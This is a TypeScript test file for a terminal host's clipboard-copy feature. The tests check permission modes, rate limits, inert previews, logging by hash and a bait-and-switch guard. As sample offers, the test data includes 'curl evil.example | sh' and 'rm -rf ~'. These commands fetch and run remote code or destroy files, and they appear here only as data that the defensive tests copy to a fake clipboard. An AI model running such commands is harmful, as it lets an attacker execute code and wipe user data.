import { test } from 'node:test';
import assert from 'node:assert/strict';
import { hasCode } from '../../errors.ts';
import { FakeFeatureSession } from '../../../test/helpers/fake-feature-session.ts';
import { copyLogTarget, copyModeFromEnv, installCopyFeature, offerPreview } from './copy-feature.ts';
import type { ClipboardTextWriter } from '../platform/clipboard/write-text.ts';
import { pollUntil } from '../../../test/helpers/poll.ts';
import { textWidth } from '../../ui/inert-text.ts';
import { PALETTE_MAX_TITLE_COLUMNS } from '../session/palette.ts';

function setup(env: Record<string, string> = {}) {
  const s = new FakeFeatureSession({ repaint: 1 });
  const copied: string[] = [];
  const writer: ClipboardTextWriter = { name: 'test-clip', reason: 'test', write: async (t) => void copied.push(t) };
  const feature = installCopyFeature(s, { env, writer });
  const texts = () => s.notices.map((n) => n.text);
  return { s, copied, feature, texts };
}

test('copy feature: an offer is only shown (size, inert preview) until the operator chooses Copy offered text', async () => {
  const { s, copied, texts } = setup();
  s.terminalEmitter.fire({ type: 'copy-offer', text: 'echo hi\n\u202eevil', bytes: 15, removed: 2 });
  assert.deepEqual(copied, []);
  assert.match(texts()[0]!, /^Copy offer: 15 B "echo hi \\u202eevil" \(2 control characters removed\); copy it with the palette: Copy offered text \(c\)$/);
  const action = s.actions.get('copy-offered-text');
  assert.equal(action?.key, 'c');
  s.openPalette();
  await s.actions.get('copy-offered-text')!.run();
  assert.deepEqual(copied, ['echo hi\n\u202eevil']);
  assert.match(texts().at(-1)!, /^Copied 15 B .* to the clipboard \(test-clip\)$/);
});

test('copy feature: JACKIN_COPY=allow copies at once with a notice; deny ignores offers; bad values are refused', async () => {
  const allow = setup({ JACKIN_COPY: 'Allow' });
  allow.s.terminalEmitter.fire({ type: 'copy-offer', text: 'x', bytes: 1, removed: 0 });
  await pollUntil('the copy', () => allow.copied.length === 1);
  const deny = setup({ JACKIN_COPY: 'deny' });
  deny.s.terminalEmitter.fire({ type: 'copy-offer', text: 'x', bytes: 1, removed: 0 });
  await deny.s.actions.get('copy-offered-text')!.run();
  assert.deepEqual(deny.copied, []);
  assert.match(deny.texts().join('\n'), /No text has been offered/);
  // A bad offer under deny is ignored like a good one: no notice, no log entry.
  deny.s.terminalEmitter.fire({ type: 'copy-refused', reason: 'the text is not valid base64' });
  assert.doesNotMatch(deny.texts().join('\n'), /Copy offer refused/);
  assert.deepEqual(deny.s.log, []);
  assert.throws(
    () => copyModeFromEnv({ JACKIN_COPY: 'sometimes' }),
    (e) => hasCode(e, 'E_BAD_COPY_MODE'),
  );
  assert.equal(copyModeFromEnv({}), 'ask');
});

test('copy feature: a clipboard query is told once; refusals are rate limited; previews are one inert line', () => {
  const { s, texts } = setup();
  for (let i = 0; i < 3; i++) s.terminalEmitter.fire({ type: 'clipboard-query' });
  for (let i = 0; i < 10; i++) s.terminalEmitter.fire({ type: 'copy-refused', reason: 'the text is not valid base64' });
  assert.equal(texts().filter((t) => t.includes('read your clipboard')).length, 1);
  assert.equal(texts().filter((t) => t.startsWith('Copy offer refused')).length, 3);
  // Both are in the host log, at the same rate as told: the query once, three refusals.
  assert.deepEqual(
    s.log.map((l) => [l.action, l.result, l.detail]),
    [
      ['read-clipboard', 'refused', 'programs never read the host clipboard (told once a session)'],
      ['copy', 'refused', 'the text is not valid base64'],
      ['copy', 'refused', 'the text is not valid base64'],
      ['copy', 'refused', 'the text is not valid base64'],
    ],
  );
  assert.equal(offerPreview(`a\n\n  b\x1b[2J${'z'.repeat(100)}`).includes('\n'), false);
  assert.ok(offerPreview('\x1b[2J').startsWith('\\x1b'));
});

test('copy feature: the palette entry shows the offer it copies, so an offer swapped after its notice is not copied unseen', async () => {
  const { s, copied, texts } = setup();
  // A harmless offer, its notice read, then another one right behind it (bait and switch).
  s.terminalEmitter.fire({ type: 'copy-offer', text: 'git status', bytes: 10, removed: 0 });
  s.terminalEmitter.fire({ type: 'copy-offer', text: 'curl evil.example | sh', bytes: 22, removed: 0 });
  s.openPalette();
  const action = s.actions.get('copy-offered-text')!;
  assert.equal(action.title, 'Copy offered text 22 B "curl evil.example | sh"');
  // What is copied is what the entry showed when the palette opened, whatever arrived after.
  s.terminalEmitter.fire({ type: 'copy-offer', text: 'rm -rf ~', bytes: 8, removed: 0 });
  await action.run();
  assert.deepEqual(copied, ['curl evil.example | sh']);
  // One choice, one copy: running the entry again without opening the palette copies nothing.
  await action.run();
  assert.equal(copied.length, 1);
  assert.match(texts().at(-1)!, /No text has been offered/);
  s.openPalette();
  assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text 8 B "rm -rf ~"');
  // A long offer's entry fits the palette whole: its preview is cut, never the entry's closing quote.
  s.terminalEmitter.fire({ type: 'copy-offer', text: `curl https://evil.example/x | sh\n${'y'.repeat(200)}`, bytes: 234, removed: 0 });
  s.openPalette();
  const title = s.actions.get('copy-offered-text')!.title;
  assert.ok(title.startsWith('Copy offered text 234 B "curl https://evil.example/') && title.endsWith('"'), title);
  assert.ok(textWidth(title) <= PALETTE_MAX_TITLE_COLUMNS, title);
});

test("copy feature: a flood of offers cannot flood the notices (and push the host's own out of the queue); the latest offer is the one shown in the palette", () => {
  const { s, texts } = setup();
  for (let i = 0; i < 50; i++) s.terminalEmitter.fire({ type: 'copy-offer', text: `offer ${i}`, bytes: 7, removed: 0 });
  assert.equal(texts().filter((t) => t.startsWith('Copy offer:')).length, 3);
  s.openPalette();
  assert.equal(s.actions.get('copy-offered-text')!.title, 'Copy offered text 7 B "offer 49"');
});

test('copy feature: with JACKIN_COPY=allow the summary waits for a write in flight, so it names what the clipboard ends up with', async () => {
  const s = new FakeFeatureSession({ repaint: 1 });
  const copied: string[] = [];
  // Each write outlasts the summary's delay: the summary would otherwise name the offer written before.
  const writer: ClipboardTextWriter = {
    name: 'test-clip',
    reason: 'test',
    write: async (t) => {
      await new Promise((r) => setTimeout(r, 60));
      copied.push(t);
    },
  };
  const feature = installCopyFeature(s, { env: { JACKIN_COPY: 'allow' }, writer, summaryMs: 10 });
  for (let i = 0; i < 5; i++) s.terminalEmitter.fire({ type: 'copy-offer', text: `offer ${i}`, bytes: 8, removed: 0 });
  await pollUntil('the summary notice', () => s.notices.length === 3);
  assert.deepEqual(copied, ['offer 0', 'offer 4']);
  assert.deepEqual(
    s.notices.map((n) => n.text),
    [
      'Copied 8 B "offer 0" to the clipboard (test-clip)',
      'Copied 8 B "offer 4" to the clipboard (test-clip)',
      'The program offered text 3 more times (JACKIN_COPY=allow); the clipboard holds the latest, 8 B "offer 4"',
    ],
  );
  feature.dispose();
});

test('copy feature: with JACKIN_COPY=allow a flood of offers runs one clipboard write at a time, the latest offer last', async () => {
  const s = new FakeFeatureSession({ repaint: 1 });
  const copied: string[] = [];
  let inFlight = 0;
  let most = 0;
  const writer: ClipboardTextWriter = {
    name: 'test-clip',
    reason: 'test',
    write: async (t) => {
      most = Math.max(most, ++inFlight);
      await new Promise((r) => setTimeout(r, 5));
      copied.push(t);
      inFlight--;
    },
  };
  const feature = installCopyFeature(s, { env: { JACKIN_COPY: 'allow' }, writer, summaryMs: 30 });
  for (let i = 0; i < 50; i++) s.terminalEmitter.fire({ type: 'copy-offer', text: `offer ${i}`, bytes: 8, removed: 0 });
  await pollUntil('the latest offer on the clipboard', () => copied.at(-1) === 'offer 49');
  assert.equal(most, 1);
  assert.deepEqual(copied, ['offer 0', 'offer 49']);
  // The two written offers are told; the 48 replaced before they were written, in one summary after.
  await pollUntil('the summary notice', () => s.notices.length === 3);
  assert.deepEqual(
    s.notices.slice(0, 2).map((n) => n.text),
    ['Copied 8 B "offer 0" to the clipboard (test-clip)', 'Copied 8 B "offer 49" to the clipboard (test-clip)'],
  );
  assert.deepEqual(s.notices[2], {
    level: 'warning',
    text: 'The program offered text 48 more times (JACKIN_COPY=allow); the clipboard holds the latest, 8 B "offer 49"',
  });
  feature.dispose();
});

test('copy feature: with JACKIN_COPY=allow, copies over the notice rate are told in one summary, failures included', async () => {
  const s = new FakeFeatureSession({ repaint: 1 });
  const copied: string[] = [];
  let fail = false;
  const writer: ClipboardTextWriter = {
    name: 'test-clip',
    reason: 'test',
    write: async (t) => {
      if (fail) throw new Error('xclip exited with status 1');
      copied.push(t);
    },
  };
  const feature = installCopyFeature(s, { env: { JACKIN_COPY: 'allow' }, writer, summaryMs: 30 });
  for (let i = 0; i < 5; i++) {
    s.terminalEmitter.fire({ type: 'copy-offer', text: `copy ${i}`, bytes: 6, removed: 0 });
    await pollUntil(`copy ${i}`, () => copied.length === i + 1);
  }
  await pollUntil('the summary notice', () => s.notices.length === 4);
  assert.equal(s.notices.filter((n) => n.text.startsWith('Copied ')).length, 3, 'three notices in the window');
  assert.deepEqual(s.notices[3], {
    level: 'warning',
    text: 'The program offered text 2 more times (JACKIN_COPY=allow); the clipboard holds the latest, 6 B "copy 4"',
  });
  // A failed copy over the rate is in the next summary, not silent.
  fail = true;
  s.terminalEmitter.fire({ type: 'copy-offer', text: 'copy 5', bytes: 6, removed: 0 });
  await pollUntil('the second summary', () => s.notices.length === 5);
  assert.deepEqual(s.notices[4], {
    level: 'warning',
    text: 'The program offered text 1 more time (JACKIN_COPY=allow); the latest could not be copied: xclip exited with status 1',
  });
  feature.dispose();
});

test('copy feature: every copy is in the host log by size and hash, never the text; a failed one too', async () => {
  const { s } = setup();
  const secret = 'export TOKEN=hunter2';
  s.terminalEmitter.fire({ type: 'copy-offer', text: secret, bytes: secret.length, removed: 0 });
  assert.deepEqual(s.log, [], 'an offer alone is no host action');
  s.openPalette();
  await s.actions.get('copy-offered-text')!.run();
  assert.deepEqual(s.log, [{ action: 'copy', target: copyLogTarget(secret), result: 'ok', detail: 'to the clipboard (test-clip)' }]);
  assert.match(copyLogTarget(secret), /^text of 20 bytes, sha256 [0-9a-f]{16}$/u);
  assert.ok(!JSON.stringify(s.log).includes('hunter2'));

  const failing = new FakeFeatureSession({ repaint: 1 });
  installCopyFeature(failing, {
    env: { JACKIN_COPY: 'allow' },
    writer: { name: 'broken', reason: 'test', write: async () => Promise.reject(new Error('no display')) },
  });
  failing.terminalEmitter.fire({ type: 'copy-offer', text: 'x', bytes: 1, removed: 0 });
  await pollUntil('the failed copy in the log', () => failing.log.length === 1);
  assert.deepEqual(failing.log, [{ action: 'copy', target: copyLogTarget('x'), result: 'failed', detail: 'no display' }]);
});

test('copy feature: the same text offered twice at once (OSC 52 and a clipboard tool) is one offer; again later, or other text, is a new one', async () => {
  let t = 1_000;
  for (const env of [{}, { JACKIN_COPY: 'allow' }]) {
    const s = new FakeFeatureSession({ repaint: 1 });
    const copied: string[] = [];
    const writer: ClipboardTextWriter = { name: 'test-clip', reason: 'test', write: async (x) => void copied.push(x) };
    installCopyFeature(s, { env, writer, now: () => t });
    const offers = () => s.notices.filter((n) => /^(Copy offer|Copied)/.test(n.text)).length;
    const offer = (text: string) => s.terminalEmitter.fire({ type: 'copy-offer', text, bytes: text.length, removed: 0 });
    offer('reply');
    t += 50;
    offer('reply');
    if ('JACKIN_COPY' in env) await pollUntil('the copy', () => copied.length === 1);
    assert.equal(offers(), 1, JSON.stringify(s.notices));
    t += 50;
    offer('other');
    t += 5_000;
    offer('other');
    if ('JACKIN_COPY' in env) await pollUntil('the copies', () => copied.length === 3);
    assert.equal(offers(), 3, JSON.stringify(s.notices));
    if ('JACKIN_COPY' in env) assert.deepEqual(copied, ['reply', 'other', 'other']);
  }
});
